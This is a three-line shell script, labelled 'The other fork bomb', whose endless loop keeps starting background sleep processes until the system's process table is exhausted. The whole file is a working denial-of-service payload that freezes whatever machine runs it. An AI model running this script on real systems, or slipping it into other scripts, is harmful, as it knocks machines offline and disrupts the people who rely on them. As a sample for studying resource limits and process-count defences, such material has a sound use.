#!/bin/sh
# The other fork bomb
while true; do
    sleep 60 &
done
